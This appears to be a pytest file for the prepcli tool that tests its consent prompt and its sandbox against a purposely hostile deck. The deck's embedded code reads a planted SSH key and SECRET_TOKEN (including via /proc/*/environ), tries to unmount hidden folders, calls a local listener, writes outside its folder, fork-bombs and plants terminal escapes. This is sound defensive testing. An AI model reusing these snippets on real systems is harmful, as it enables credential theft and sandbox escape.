"""A hostile third-party deck against `practice --check`: its tests try to read a planted
secret in $HOME and SECRET_TOKEN from the environment, reach a socket the test listens on,
write outside their folder, fork 40 children, leave a setsid() grandchild behind, and
loop forever. Without consent none of it runs; with it (on Linux with user namespaces)
none of it succeeds, and no process from the run outlives it — also when prepcli is sent
SIGTERM, Ctrl-C or SIGKILL.

Every attack is first shown to work with the sandbox turned off (PREPCLI_SANDBOX=off):
the assertions that it fails in the sandbox are not true by accident.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path

import pexpect
import pytest

from prepcli.app import practice as practice_mod
from prepcli.app import sandbox
from prepcli.files.decks import load_decks
from prepcli.storage import consent, paths
from tests.conftest import Result
from tests.test_practice import none_left, processes_with

Run = Callable[..., Result]
SECRET = "ssh-secret-" + uuid.uuid4().hex
TOKEN = "token-" + uuid.uuid4().hex
REPO = Path(__file__).resolve().parents[1]


def _namespaces_work() -> bool:
    if not sys.platform.startswith("linux") or shutil.which("unshare") is None:
        return False
    return subprocess.run(["unshare", "-rn", "true"], capture_output=True).returncode == 0


NAMESPACES = _namespaces_work()
needs_namespaces = pytest.mark.skipif(
    not NAMESPACES, reason="`unshare -rn true` fails here: no user namespaces, no sandbox"
)
needs_proc = pytest.mark.skipif(
    not sys.platform.startswith("linux"), reason="descendants are tracked through /proc"
)


class Evil:
    """The hostile deck, the secret it looks for and the traps that show what it did."""

    def __init__(self, root: Path, home: Path, port: int, visible: Path) -> None:
        self.home = home
        self.visible_write = visible / "pwned.txt"  # a folder the sandbox shows, read-only
        self.secret_file = home / ".ssh" / "id_rsa"
        self.secret_file.parent.mkdir()
        self.secret_file.write_text(SECRET, "utf-8")
        self.outside = root / "outside" / "pwned.txt"
        self.outside.parent.mkdir()
        self.home_write = home / "pwned.txt"
        self.marker = f"prepcli-evil-{uuid.uuid4().hex}"
        self.port = port
        self.decks = root / "evil-decks"
        self.decks.mkdir()
        (self.decks / "evil.yaml").write_text(self.deck(), "utf-8")

    def canary(self, card: str) -> str:
        """Every card first tries to phone home: the listener hears it iff it ran unboxed."""
        return (
            "import socket\n"
            "try:\n"
            f"    socket.create_connection(('127.0.0.1', {self.port}), timeout=2)"
            f".sendall({card!r}.encode())\n"
            "except OSError as exc:\n"
            "    print('network blocked:', exc)\n"
        )

    def attacks(self) -> dict[str, str]:
        marker, home = self.marker, str(self.home)
        spawn_sleeper = f"[sys.executable, '-S', '-c', 'import time; time.sleep(120)', {marker!r}]"
        return {
            "secrets": (
                "import ctypes, os\n"
                "leaks = []\n"
                f"for path in [{str(self.secret_file)!r}, os.path.expanduser('~/.ssh/id_rsa')]:\n"
                "    try:\n"
                "        leaks.append(open(path).read())\n"
                "    except OSError as exc:\n"
                "        print('read blocked:', exc)\n"
                "leaks.append(os.environ.get('SECRET_TOKEN', ''))\n"
                "for pid in filter(str.isdigit, os.listdir('/proc')):\n"
                "    try:\n"
                "        environ = open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1')\n"
                "    except OSError:\n"
                "        continue\n"
                "    if 'SECRET_TOKEN' in environ:\n"
                "        leaks.append(environ)\n"
                "libc = ctypes.CDLL(None, use_errno=True)\n"
                f"for cover in [{home!r}, '/tmp']:\n"
                "    print('umount', cover, libc.umount2(cover.encode(), 2), ctypes.get_errno())\n"
                "    try:\n"
                f"        leaks.append(open({str(self.secret_file)!r}).read())\n"
                "    except OSError:\n"
                "        pass\n"
                "print('LEAKS', leaks)\n"
                "assert not ''.join(leaks), ''.join(leaks)\n"
            ),
            "network": (
                "import socket\n"
                "reached = []\n"
                "for host in ['127.0.0.1', 'localhost']:\n"
                "    try:\n"
                f"        socket.create_connection((host, {self.port}), timeout=2).sendall(b'x')\n"
                "        reached.append(host)\n"
                "    except OSError as exc:\n"
                "        print('blocked:', exc)\n"
                "assert reached == []\n"
            ),
            "write": (
                "written = []\n"
                f"for path in [{str(self.outside)!r}, {str(self.home_write)!r},"
                f" {str(self.visible_write)!r}]:\n"
                "    try:\n"
                "        open(path, 'w').write('pwned')\n"
                "        written.append(path)\n"
                "    except OSError as exc:\n"
                "        print('write blocked:', exc)\n"
                "assert written == []\n"
            ),
            "fork": (
                "import subprocess, sys, time\n"
                f"children = [subprocess.Popen({spawn_sleeper}) for _ in range(40)]\n"
                "time.sleep(30)\n"
                "assert len(children) < 40\n"
            ),
            "setsid": (
                "import os, sys, time\n"
                "middle = os.fork()\n"
                "if middle == 0:\n"
                "    os.setsid()\n"
                "    if os.fork() == 0:\n"
                f"        os.execv(sys.executable, {spawn_sleeper})\n"
                "    os._exit(0)\n"
                "os.waitpid(middle, 0)\n"
                "def running():\n"
                "    for pid in filter(str.isdigit, os.listdir('/proc')):\n"
                "        try:\n"
                f"            if {marker!r}.encode() in open(f'/proc/{{pid}}/cmdline', 'rb').read():\n"
                "                return True\n"
                "        except OSError:\n"
                "            pass\n"
                "    return False\n"
                "deadline = time.monotonic() + 10\n"
                "while not running() and time.monotonic() < deadline:\n"
                "    time.sleep(0.02)\n"
                "assert running(), 'the grandchild did not start'\n"
            ),
            "loop": "while True:\n    pass\nassert False\n",
            "spin": (  # for the signal tests: a busy child and a busy harness
                "import subprocess, sys\n"
                f"subprocess.Popen([sys.executable, '-S', '-c', 'while True: pass', {marker!r}])\n"
                "while True:\n    pass\nassert False\n"
            ),
        }

    def deck(self) -> str:
        cards = []
        for name, code in self.attacks().items():
            tests = textwrap.indent(self.canary(name) + code, "      ")
            cards.append(
                f"  - id: {name}\n    kind: coding\n    front: Attack {name}.\n"
                "    back: None.\n    starter: |\n      def solve():\n          pass\n"
                "    solution: |\n      def solve():\n          pass\n"
                f"    tests: |\n{tests}"
            )
        return (
            "version: 1\ndeck: evil.attack\ntitle: Evil\ndescription: Hostile tests.\n"
            'sources: ["test"]\ncards:\n' + "\n".join(cards) + "\n"
        )

    def heard(self, listener: socket.socket) -> list[bytes]:
        """What reached the listener (the canaries and the network attack)."""
        heard = []
        while True:
            try:
                connection, _ = listener.accept()
            except BlockingIOError:
                return heard
            connection.settimeout(2)
            with connection:
                heard.append(connection.recv(100))


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.bind(("127.0.0.1", 0))
    server.listen(64)
    server.setblocking(False)
    yield server
    server.close()


def _shown_by_the_sandbox(folder: Path) -> bool:
    """Whether the sandbox leaves `folder` in view (read-only): it hides /tmp, $HOME and
    the like, so a checkout cloned under /tmp is not."""
    real = os.path.realpath(folder)
    return not any(real == h or real.startswith(h + "/") for h in sandbox.hidden_folders())


@pytest.fixture
def visible_folder() -> Iterator[Path]:
    """A folder the sandbox shows read-only: in the repository, or (for a checkout under
    /tmp or $HOME, which the sandbox hides) another writable folder outside them."""
    for base in (REPO, Path("/srv"), Path("/opt"), Path("/mnt")):
        if _shown_by_the_sandbox(base) and os.access(base, os.W_OK):
            break
    else:
        pytest.skip("no writable folder outside the ones the sandbox hides")
    folder = Path(tempfile.mkdtemp(prefix=".sandbox-test-", dir=base))
    yield folder
    shutil.rmtree(folder)


@pytest.fixture
def evil(
    tmp_path: Path,
    isolated_home: Path,
    listener: socket.socket,
    visible_folder: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Evil]:
    deck = Evil(tmp_path, isolated_home, listener.getsockname()[1], visible_folder)
    monkeypatch.setenv("PREPCLI_DECKS", str(deck.decks))
    monkeypatch.setenv("SECRET_TOKEN", TOKEN)
    monkeypatch.delenv("PREPCLI_SANDBOX", raising=False)
    sandbox._probed = None  # each test finds the protection under its own environment
    yield deck
    sandbox._probed = None
    for pid in processes_with(deck.marker):  # never leave a stray behind, pass or fail
        os.kill(pid, signal.SIGKILL)


def card(name: str) -> str:
    return f"evil.attack/{name}"


def check(run: Run, name: str, *extra: str) -> Result:
    created = run("practice", card(name), "--no-editor")
    assert created.code == 0, created.err  # writing the starter runs nothing
    return run("practice", card(name), "--check", "--json", *extra)


def command(*args: str) -> list[str]:
    return [sys.executable, "-m", "prepcli", *args]


def child_environment() -> dict[str, str]:
    return dict(os.environ, PYTHONPATH=str(REPO / "src"))


# --- consent: unconditional -------------------------------------------------------------


@pytest.mark.parametrize("name", ["secrets", "network", "write", "fork", "setsid", "loop"])
def test_without_consent_nothing_runs(
    run: Run, evil: Evil, listener: socket.socket, name: str
) -> None:
    result = check(run, name)  # stdin is not a terminal and there is no --yes
    assert result.code == 1
    assert result.out == ""
    assert result.err.startswith(f"error: not run: the tests of {card(name)} come from a deck")
    assert "not bundled with prepcli" in result.err and "--yes" in result.err
    time.sleep(0.3)
    assert evil.heard(listener) == []
    assert not evil.outside.exists() and not evil.home_write.exists()
    assert not evil.visible_write.exists()
    assert processes_with(evil.marker) == []


def test_an_approval_is_remembered_for_that_exact_code_only(
    run: Run, evil: Evil, monkeypatch: pytest.MonkeyPatch
) -> None:
    write_card = load_decks([evil.decks]).by_key[card("write")]
    digest = practice_mod.code_digest(write_card)
    consent.approve(digest, card=write_card.key, deck=write_card.path, when="2026-11-23")
    folder = consent.folder()
    assert (folder / digest).is_file()
    assert (folder.stat().st_mode & 0o777, (folder / digest).stat().st_mode & 0o777) == (
        0o700,
        0o600,
    )
    assert check(run, "write").err == ""  # approved: it runs without asking
    assert check(run, "network").code == 1  # other code: still refused
    # The same card with one character changed is other code.
    deck = evil.decks / "evil.yaml"
    deck.write_text(deck.read_text("utf-8").replace("'pwned'", "'pwned!'"), "utf-8")
    again = check(run, "write")
    assert again.code == 1 and "not run" in again.err


def test_bundled_decks_need_no_consent(run: Run, tmp_path: Path) -> None:
    chosen = next(c for c in load_decks([paths.bundled("decks")]).cards() if c.tests)
    assert practice_mod.is_bundled(chosen)
    folder = tmp_path / "practice"
    assert run("practice", chosen.key, "--dir", str(folder), "--no-editor").code == 0
    result = run("practice", chosen.key, "--dir", str(folder), "--check", "--json")
    assert result.code == 1 and result.err == "" and json.loads(result.out)["total"] > 0


def test_a_copy_of_a_bundled_deck_elsewhere_is_third_party(
    run: Run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Trust follows where the file is, not what it says: a copy is asked about."""
    source = paths.bundled("decks") / "coding" / "patterns.yaml"
    copy = tmp_path / "copied" / "patterns.yaml"
    copy.parent.mkdir()
    shutil.copyfile(source, copy)
    monkeypatch.setenv("PREPCLI_DECKS", str(copy.parent))
    chosen = next(c for c in load_decks([copy.parent]).cards() if c.tests)
    assert not practice_mod.is_bundled(chosen)
    assert run("practice", chosen.key, "--no-editor").code == 0
    refused = run("practice", chosen.key, "--check")
    assert refused.code == 1 and "not run" in refused.err


@pytest.mark.parametrize("value", ["nan", "NaN", "inf", "-inf", "-1", "0", "1e999"])
def test_a_timeout_that_is_not_a_finite_positive_number_is_refused(
    run: Run, evil: Evil, listener: socket.socket, value: str
) -> None:
    result = run("practice", card("loop"), "--check", "--yes", "--timeout", value)
    assert result.code == 2 and result.out == "" and "timeout" in result.err.lower()
    assert "Traceback" not in result.err
    assert evil.heard(listener) == []


def test_yes_goes_with_check(run: Run, evil: Evil) -> None:
    result = run("practice", card("loop"), "--yes")
    assert (result.code, result.err) == (2, "error: --yes goes with --check\n")


def spawn_check(name: str, env: dict[str, str], *extra: str) -> pexpect.spawn:
    return pexpect.spawn(
        sys.executable, ["-m", "prepcli", "practice", card(name), "--check", *extra], env=env,
        encoding="utf-8", timeout=30, dimensions=(50, 120),
    )  # fmt: skip


@pytest.mark.parametrize("sandboxed", [True, False], ids=["sandbox", "no-sandbox"])
@pytest.mark.skip(
    reason="merged after the loaders began refusing control characters: this deck no longer loads; to be rewritten with escapes the loader allows"
)
def test_the_prompt_shows_the_code_escaped_and_what_protects_the_user(
    run: Run, evil: Evil, listener: socket.socket, sandboxed: bool
) -> None:
    if sandboxed and not NAMESPACES:
        pytest.skip("`unshare -rn true` fails here: no user namespaces, no sandbox")
    deck = evil.decks / "evil.yaml"
    # A double-quoted YAML string may hold escapes: an OSC 52 (write the clipboard) and a
    # right-to-left override, which must reach the screen as text, never as bytes.
    deck.write_text(
        deck.read_text("utf-8")
        + "  - id: escapes\n    kind: coding\n    front: Escapes.\n    back: None.\n"
        '    starter: "def solve():\\n    pass\\n"\n'
        '    solution: "def solve():\\n    pass\\n"\n'
        "    tests: \"print('\\e]52;c;cHduZWQ=\\a')  # \\u202e hidden\\nassert True\\n\"\n",
        "utf-8",
    )
    assert run("practice", card("escapes"), "--no-editor").code == 0
    env = dict(child_environment(), TERM="xterm")
    if not sandboxed:
        env["PREPCLI_SANDBOX"] = "off"
    child = spawn_check("escapes", env)
    child.expect("comes from a deck that is not bundled with prepcli")
    child.expect(r"\\x1b\]52;c;cHduZWQ=\\x07'\)  # \\u202e hidden")
    if sandboxed:
        child.expect("It runs in a sandbox")
        child.expect("no network")
    else:
        child.expect("It runs with YOUR rights")
        child.expect("PREPCLI_SANDBOX=off")
    child.expect(r"Run this code\? \[y/N\]")
    screen = child.before
    child.sendline("n")
    child.expect("not run: you did not approve the tests of evil.attack/escapes")
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 1
    assert "\x1b]52" not in screen and "\u202e" not in screen
    assert not consent.folder().exists() or not any(consent.folder().iterdir())
    child = spawn_check("escapes", env, "--rating", "good")
    child.expect(r"Run this code\? \[y/N\]")
    child.sendline("y")
    child.expect("1 of 1 check passed")
    child.expect(pexpect.EOF)
    child.close()
    assert len(list(consent.folder().iterdir())) == 1  # remembered
    child = spawn_check("escapes", env, "--rating", "good")
    child.expect("1 of 1 check passed")
    assert "Run this code" not in (child.before or "")
    child.expect(pexpect.EOF)


# --- containment ------------------------------------------------------------------------


def control(run: Run, name: str, monkeypatch: pytest.MonkeyPatch) -> Result:
    """The same attack with the sandbox off: it must work, or the test proves nothing."""
    monkeypatch.setenv("PREPCLI_SANDBOX", "off")
    sandbox._probed = None
    try:
        return check(run, name, "--yes")
    finally:
        monkeypatch.delenv("PREPCLI_SANDBOX")
        sandbox._probed = None


@needs_namespaces
def test_the_secret_in_home_and_the_environment_stay_out_of_reach(
    evil: Evil, listener: socket.socket, tmp_path: Path
) -> None:
    # A separate process, so that SECRET_TOKEN is also in prepcli's /proc/PID/environ.
    env = dict(child_environment(), SECRET_TOKEN=TOKEN)
    subprocess.run(command("practice", card("secrets"), "--no-editor"), env=env, check=True,
                   capture_output=True)  # fmt: skip
    done = subprocess.run(command("practice", card("secrets"), "--check", "--json", "--yes"),
                          env=env, capture_output=True, text=True, timeout=60)  # fmt: skip
    data = json.loads(done.stdout)
    assert data["all_passed"], data
    assert SECRET not in done.stdout + done.stderr and TOKEN not in done.stdout + done.stderr
    assert "read blocked" in data["output"] and "umount" in data["output"]
    assert evil.heard(listener) == []
    off = subprocess.run(
        command("practice", card("secrets"), "--check", "--json", "--yes"),
        env=dict(env, PREPCLI_SANDBOX="off"), capture_output=True, text=True, timeout=60,
    )  # fmt: skip
    assert SECRET in off.stdout and TOKEN in off.stdout  # the attack works unboxed
    assert evil.heard(listener) == [b"secrets"]


@needs_namespaces
def test_the_network_cannot_be_reached(
    run: Run, evil: Evil, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    result = check(run, "network", "--yes")
    data = json.loads(result.out)
    assert data["all_passed"], data
    assert "Network is unreachable" in data["output"]
    time.sleep(0.3)
    assert evil.heard(listener) == []
    assert json.loads(control(run, "network", monkeypatch).out)["all_passed"] is False
    assert sorted(evil.heard(listener)) == [b"network", b"x", b"x"]


@needs_namespaces
def test_nothing_is_written_outside_the_private_folder(
    run: Run, evil: Evil, listener: socket.socket, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = json.loads(check(run, "write", "--yes").out)
    assert data["all_passed"], data
    assert f"Read-only file system: {str(evil.visible_write)!r}" in data["output"]
    assert "No such file or directory" in data["output"]  # /tmp and $HOME are hidden
    assert not evil.outside.exists() and not evil.home_write.exists()
    assert not evil.visible_write.exists()
    assert evil.heard(listener) == []
    control(run, "write", monkeypatch)
    written = (evil.outside, evil.home_write, evil.visible_write)
    assert [path.read_text() for path in written] == ["pwned"] * 3


@pytest.mark.parametrize(
    "sandboxed",
    [pytest.param(True, marks=needs_namespaces), pytest.param(False, marks=needs_proc)],
    ids=["sandbox", "no-sandbox"],
)
def test_forty_children_are_stopped_at_the_process_limit(
    run: Run, evil: Evil, monkeypatch: pytest.MonkeyPatch, sandboxed: bool
) -> None:
    if not sandboxed:
        monkeypatch.setenv("PREPCLI_SANDBOX", "off")
    started = time.monotonic()
    result = check(run, "fork", "--yes")
    data = json.loads(result.out)
    assert time.monotonic() - started < 9  # long before the 10 s timeout or its 30 s sleep
    assert result.code == 1 and data["stopped"] == "processes" and not data["all_passed"]
    # The run is stopped while it starts the children, or (on a busy machine, where the
    # 50 ms poll comes later) while they all sleep.
    stopped = [(r["source"][:10], r["status"], r["message"]) for r in data["results"]]
    message = (
        f"it started more than {sandbox.MAX_PROCESSES} processes: stopped, with all it started"
    )
    assert stopped[0] in [("children =", "error", message), ("time.sleep", "error", message)]
    assert stopped[-1] == ("assert len", "not run", "")
    assert none_left(evil.marker, seconds=5)


@pytest.mark.parametrize(
    "sandboxed",
    [pytest.param(True, marks=needs_namespaces), pytest.param(False, marks=needs_proc)],
    ids=["sandbox", "no-sandbox"],
)
def test_a_setsid_grandchild_does_not_outlive_the_run(
    run: Run, evil: Evil, monkeypatch: pytest.MonkeyPatch, sandboxed: bool
) -> None:
    if not sandboxed:
        monkeypatch.setenv("PREPCLI_SANDBOX", "off")
    data = json.loads(check(run, "setsid", "--yes").out)
    assert data["all_passed"], data  # its checks pass: the grandchild was running
    assert processes_with(evil.marker) == []  # and it is gone when prepcli returns


@pytest.mark.parametrize(
    "sandboxed",
    [pytest.param(True, marks=needs_namespaces), pytest.param(False, marks=needs_proc)],
    ids=["sandbox", "no-sandbox"],
)
def test_an_endless_loop_is_stopped_by_the_timeout(
    run: Run, evil: Evil, monkeypatch: pytest.MonkeyPatch, sandboxed: bool
) -> None:
    if not sandboxed:
        monkeypatch.setenv("PREPCLI_SANDBOX", "off")
    started = time.monotonic()
    data = json.loads(check(run, "loop", "--yes", "--timeout", "1.5").out)
    assert 1.5 <= time.monotonic() - started < 8
    assert data["stopped"] == "timeout" and data["timed_out"] and not data["all_passed"]


def descendants(root: int) -> set[int]:
    table = sandbox._process_table()
    found, frontier = {root}, {root}
    while frontier:
        frontier = {pid for pid, parent in table.items() if parent in frontier} - found
        found |= frontier
    return found - {root}


def alive(pid: int) -> bool:
    return pid in sandbox._process_table() and not _zombie(pid)


def _zombie(pid: int) -> bool:
    try:
        with open(f"/proc/{pid}/stat", encoding="utf-8") as handle:
            return handle.read().rsplit(") ", 1)[1].startswith("Z")
    except OSError:
        return True


@pytest.mark.parametrize(
    ("how", "sandboxed"),
    [
        pytest.param(signal.SIGTERM, True, marks=needs_namespaces, id="SIGTERM-sandbox"),
        pytest.param(signal.SIGINT, True, marks=needs_namespaces, id="Ctrl-C-sandbox"),
        pytest.param(signal.SIGHUP, True, marks=needs_namespaces, id="SIGHUP-sandbox"),
        pytest.param(signal.SIGKILL, True, marks=needs_namespaces, id="SIGKILL-sandbox"),
        pytest.param(signal.SIGTERM, False, marks=needs_proc, id="SIGTERM-no-sandbox"),
        pytest.param(signal.SIGINT, False, marks=needs_proc, id="Ctrl-C-no-sandbox"),
    ],
)
def test_stopping_prepcli_stops_every_process_of_the_run(
    run: Run, evil: Evil, how: signal.Signals, sandboxed: bool
) -> None:
    assert run("practice", card("spin"), "--no-editor").code == 0
    env = child_environment()
    if not sandboxed:
        env["PREPCLI_SANDBOX"] = "off"
    prepcli = subprocess.Popen(
        command("practice", card("spin"), "--check", "--yes", "--timeout", "60"),
        env=env, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        deadline = time.monotonic() + 20
        while not processes_with(evil.marker) and time.monotonic() < deadline:
            time.sleep(0.05)
        assert processes_with(evil.marker), "the spinning child did not start"
        time.sleep(0.2)
        run_processes = descendants(prepcli.pid)
        assert len(run_processes) >= 2  # the harness (or unshare and the init) and the child
        prepcli.send_signal(how)
        _out, err = prepcli.communicate(timeout=20)
    finally:
        if prepcli.poll() is None:
            prepcli.kill()
            prepcli.wait()
    if how == signal.SIGTERM:
        assert prepcli.returncode == 128 + signal.SIGTERM, err
    deadline = time.monotonic() + (5 if how == signal.SIGKILL else 1)
    while any(alive(pid) for pid in run_processes) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [pid for pid in run_processes if alive(pid)] == []
    assert processes_with(evil.marker) == []
    assert b"Traceback" not in err


@needs_namespaces
@pytest.mark.parametrize("per_mount", [False, True], ids=["mount_setattr", "mount-by-mount"])
def test_the_sandbox_file_system_either_way_of_making_it_read_only(
    tmp_path: Path, isolated_home: Path, visible_folder: Path, per_mount: bool
) -> None:
    """sandbox_init.py makes mounts read-only with mount_setattr (Linux 5.12+), or else
    one by one: both ways are run here, whatever the kernel."""
    (isolated_home / "secret.txt").write_text(SECRET, "utf-8")
    work = tmp_path / "prepcli-practice-fs"
    work.mkdir()
    probe = (
        "import json, os\n"
        "def read(path):\n"
        "    try:\n"
        "        return open(path).read()\n"
        "    except OSError as exc:\n"
        "        return exc.strerror\n"
        "def attempt(path):\n"
        "    try:\n"
        "        open(path, 'w').write('x')\n"
        "        return 'written'\n"
        "    except OSError as exc:\n"
        "        return exc.strerror\n"
        "print(json.dumps({\n"
        f"    'visible': attempt({str(visible_folder / 'x')!r}),\n"
        f"    'work': attempt({str(work / 'x')!r}),\n"
        "    'home': attempt(os.path.join(os.environ['HOME'], 'x')),\n"
        f"    'secret': read({str(isolated_home / 'secret.txt')!r}),\n"
        "}))\n"
    )
    (work / "probe.py").write_text(probe, "utf-8")
    with tempfile.TemporaryFile() as results:
        spec = {
            "work": str(work),
            "hide": sandbox.hidden_folders(),
            "argv": [str(work / "probe.py")],
            "results_fd": results.fileno(),
            "per_mount": per_mount,
        }
        env = sandbox.scrubbed_environment(work)
        done = subprocess.run(
            ["unshare", *sandbox.UNSHARE_FLAGS, sys.executable, "-I", str(sandbox.INIT),
             json.dumps(spec)],
            pass_fds=(results.fileno(),), env=env, capture_output=True, text=True, timeout=60,
        )  # fmt: skip
        results.seek(0)
        assert results.read() == b""  # no setup error reported
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout) == {
        "visible": "Read-only file system",
        "work": "written",
        "home": "written",  # $HOME is the private one, in the work folder
        "secret": "No such file or directory",  # the user's own home is covered
    }
    assert not (visible_folder / "x").exists() and not (work / "x").exists()
